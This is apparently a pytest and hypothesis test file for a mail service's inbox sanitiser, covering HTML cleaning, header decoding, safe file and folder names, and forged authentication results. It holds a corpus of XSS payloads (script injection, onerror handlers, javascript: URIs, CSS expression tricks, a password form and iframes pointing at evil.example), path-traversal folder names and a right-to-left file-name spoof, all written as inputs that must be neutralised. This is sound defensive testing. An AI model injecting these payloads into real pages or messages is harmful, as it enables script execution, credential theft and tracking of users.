"""Strangers' bytes: whatever they are, the inbox survives them and shows nothing that can act."""

import re
from email import message_from_bytes, policy
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from freehold.services.mail.inbox.rules.html import STYLES, TAGS, cleaned
from freehold.services.mail.inbox.rules.keys import may_be_folder, read_key
from freehold.services.mail.inbox.rules.search import criteria_of
from freehold.services.mail.inbox.rules.structure import safe_name, structure_of
from freehold.services.mail.inbox.rules.text import quoted, shown_text, text_of_html, unflowed
from freehold.services.mail.inbox.rules.verdict import Suspicion, proofs_of, suspicion_of
from freehold.services.mail.inbox.rules.words import decoded_bytes, header_text, one_line

OWN = frozenset({"mail.test"})
PIECES = [
    "<script>", "</script>", "<style>", "</style>", "<svg onload=", "<math>", "<img src=", "<a href=", "javascript:alert(1)",
    "data:text/html,x", "\"", "'", ">", "<", "<!--", "-->", "]]>", "<meta http-equiv=refresh content=", "0;url=https://x",
    "<base href=", "<form action=", "<iframe srcdoc=", "<table background=", "style=\"background:url(https://t)\"", "onclick=x",
    "<p style='", "url(", "\\75rl(", "expression(", "/**/", "@import", "&#106;avascript:", "<noscript>", "<template>", "<title>",
    "<textarea>", "<xmp>", "<plaintext>", "\x00", "\u202e", "cid:a",
    "https://tracker.example/x.png", " srcset=", " ", "text", "<td>",
]  # fmt: skip
CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='evil.swf'></object><embed src='evil.swf'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'; p { background: url(https://evil.example) }</style>",
    "<p style='background:url(https://evil.example/1)'>x</p>",
    "<p style='background-color:url(https://evil.example/1)'>x</p>",
    "<p style='color:red;width:expression(alert(1))'>x</p>",
    "<p style='background-color:\\75\\72\\6c(https://evil.example)'>x</p>",
    "<p style='color:r/**/ed;-moz-binding:url(x)'>x</p>",
    "<table background='https://evil.example/1.gif'><tr><td background='https://evil.example/2.gif'>x</table>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img srcset='https://evil.example/1 1x'>",
    "<picture><source srcset='https://evil.example/1'><img></picture>",
    "<video poster='https://evil.example/1'><source src=x></video><audio src=x>",
    "<img src='https://evil.example/1.gif'>",
    "<img src='//evil.example/1.gif'>",
    "<img src='/inbox/in/INBOX/'>",
    "<input type=image src='https://evil.example'>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p title='\"><script>alert(1)</script>'>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>cover</div>",
    "<xss style='behavior:url(x.htc)'>",
    "<" * 5000,
    "<div>" * 5000,
    "<b>" * 3000 + "<i>" * 3000,
]


class Reader(HTMLParser):
    """Everything that a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag."""
        self.found.append((tag, attrs))


def assert_harmless(html: str, *, pictures: bool = False) -> None:
    """No tag, attribute, style or address but those that are allowed."""
    reader = Reader()
    reader.feed(html)
    for tag, attributes in reader.found:
        assert tag in TAGS
        for name, value in attributes:
            assert not name.startswith("on")
            assert name not in ("srcset", "background", "action", "formaction", "poster", "data", "srcdoc")
            if name == "src":
                assert tag == "img"
                assert value is not None
                allowed = (
                    r"data:image/(png|jpeg|gif|webp);base64,|https?://"
                    if pictures
                    else r"data:image/(png|jpeg|gif|webp);base64,"
                )
                assert re.match(allowed, value.strip(), re.IGNORECASE)
            if name == "href":
                assert re.match(r"\s*(https?|mailto|tel):", value or "", re.IGNORECASE)
            if name == "style":
                assert not re.search(r"url|expression|import|\\|/\*", value or "", re.IGNORECASE)
                for rule in (value or "").split(";"):
                    assert not rule.strip() or rule.partition(":")[0].strip().lower() in STYLES
        if tag == "a":
            assert dict(attributes).get("target") == "_blank"
            assert "noopener" in (dict(attributes).get("rel") or "")


@pytest.mark.parametrize("evil", CORPUS)
def test_evil_html_becomes_harmless(evil: str) -> None:
    shown = cleaned(evil, inline={})

    assert_harmless(shown.html)
    assert "evil.example" not in re.sub(r">[^<]*<", "><", shown.html)


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=10), max_size=30).map("".join))
def test_any_html_becomes_harmless(html: str) -> None:
    assert_harmless(cleaned(html, inline={}).html)
    assert_harmless(cleaned(html, inline={}, remote_pictures=True).html, pictures=True)
    again = cleaned(html, inline={}).html
    assert_harmless(cleaned(again, inline={}).html)
    text_of_html(html)


def test_remote_pictures_are_counted_and_those_brought_along_are_shown() -> None:
    shown = cleaned(
        '<img src="https://a.example/1"><img src="cid:x"><img src="cid:y">',
        inline={"x": "data:image/png;base64,AA=="},
    )

    assert shown.pictures_left_out == 1
    assert shown.html.count("data:image/png") == 1
    assert "a.example" not in shown.html


@given(st.text(max_size=400))
def test_any_text_is_escaped_and_its_quotations_are_closed(text: str) -> None:
    html = shown_text(text)

    reader = Reader()
    reader.feed(html)
    assert {tag for tag, _ in reader.found} <= {"a", "blockquote"}
    assert html.count("<blockquote") == html.count("</blockquote>")


@given(st.text(max_size=300), st.booleans())
def test_flowed_text_loses_no_word(text: str, delete_space: bool) -> None:
    unflowed(text, delete_space=delete_space)
    quoted(text)


@given(st.binary(max_size=300))
def test_any_header_becomes_one_safe_line(raw: bytes) -> None:
    text = header_text(raw)

    assert text.isprintable() or all(letter.isprintable() or letter == "\xa0" for letter in text)
    assert "\n" not in text
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", text)


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        (b"=?utf-8?q?caf=C3=A9?=", "café"),
        (b"=?utf-8?b?Y2Fmw6k=?= =?utf-8?q?_noir?=", "café noir"),
        (b"=?utf-8?q?=C3?= =?utf-8?q?=A9?=", "é"),
        (b"=?iso-8859-1?Q?M=FCller_?= GmbH", "Müller GmbH"),
        (b"=?no-such-charset?q?abc?=", "abc"),
        (b"=?punycode?q?" + b"a" * 900 + b"?=", "a" * 900),
        (b"=?utf-8?b?!!!?= x", "x"),
        (b"=?utf-8?x?abc?=", "=?utf-8?x?abc?="),
        ("gpj.\u202eexe".encode(), "gpj.exe"),
        ("\u2067a\u2066".encode(), "a"),
        (b"a\x00\x1b[31mb", "a[31mb"),
        (b"M\xfcller", "Müller"),
    ],
)
def test_headers_are_read_as_they_were_meant(raw: bytes, text: str) -> None:
    assert header_text(raw) == text


@given(
    st.binary(max_size=200),
    st.text(max_size=20) | st.sampled_from(["utf-8", "utf-7", "rot13", "zip", "idna", "hex", "mbcs"]),
)
def test_any_charset_gives_text(data: bytes, charset: str) -> None:
    assert isinstance(decoded_bytes(data, charset), str)


NODE = st.recursive(
    st.none()
    | st.integers()
    | st.binary(max_size=12)
    | st.sampled_from([b"text", b"html", b"plain", b"image", b"mixed", b"base64"]),
    lambda inner: st.lists(inner, max_size=10).map(tuple) | st.lists(inner, max_size=6),
    max_leaves=40,
)


@given(NODE)
def test_any_structure_is_read(node: object) -> None:
    structure_of(node)


def test_nesting_without_end_is_cut() -> None:
    node: object = (b"TEXT", b"PLAIN", None, None, None, b"7BIT", 4, 1)
    for _ in range(500):
        node = ([node], b"MIXED")

    assert structure_of(node).cut


@given(st.text(max_size=80))
def test_any_file_name_is_only_a_name(name: str) -> None:
    safe = safe_name(name)

    assert safe
    assert not set(safe) & set('\\/:*?"<>|\n\r\x00')
    assert not safe.startswith(".")


def test_a_strangers_verdict_is_not_believed() -> None:
    forged = "mail.test.evil.example; dmarc=pass; spf=pass"
    own = "mail.test; dkim=none; spf=fail smtp.mailfrom=x; dmarc=fail (p=none)"

    assert proofs_of([forged], own=OWN).dmarc == ""
    assert proofs_of([own, "mail.test; dmarc=pass"], own=OWN).dmarc == "fail"
    assert suspicion_of(proofs_of([own], own=OWN), verdict="clean") is Suspicion.FORGED
    unproven = proofs_of(["mail.test; dkim=none; spf=none; dmarc=none"], own=OWN)
    assert suspicion_of(unproven, verdict="clean") is Suspicion.UNPROVEN
    assert suspicion_of(proofs_of([], own=OWN), verdict="") is Suspicion.NONE


@given(st.lists(st.text(max_size=100), max_size=5))
def test_any_results_are_read(headers: list[str]) -> None:
    proofs_of(headers, own=OWN)


@given(st.text(max_size=200))
def test_any_search_is_read(query: str) -> None:
    for criterion in criteria_of(query):
        assert "\r" not in criterion.words
        assert "\n" not in criterion.words


@given(st.text(max_size=60))
def test_any_key_and_folder_is_judged(text: str) -> None:
    key = read_key(text)
    assert key is None or str(key.uid) in text
    may_be_folder(text)


def test_folders_cannot_climb_or_hide() -> None:
    assert may_be_folder("Invoices/2026")
    for name in (
        "",
        "..",
        "a/../b",
        "a//b",
        " a",
        "shared/x",
        "INBOX/x",
        "a*",
        "a%",
        "a\nb",
        "~root",
        "x" * 300,
    ):
        assert not may_be_folder(name), name


def test_one_line_cuts_what_is_too_long() -> None:
    assert len(one_line("x" * 10_000)) == 1000


def test_the_standard_parser_agrees_about_an_ordinary_message() -> None:
    raw = b"Subject: =?utf-8?q?Gr=C3=BC=C3=9Fe?=\r\n\r\n"

    assert header_text(b"=?utf-8?q?Gr=C3=BC=C3=9Fe?=") == str(
        message_from_bytes(raw, policy=policy.default)["Subject"]
    )
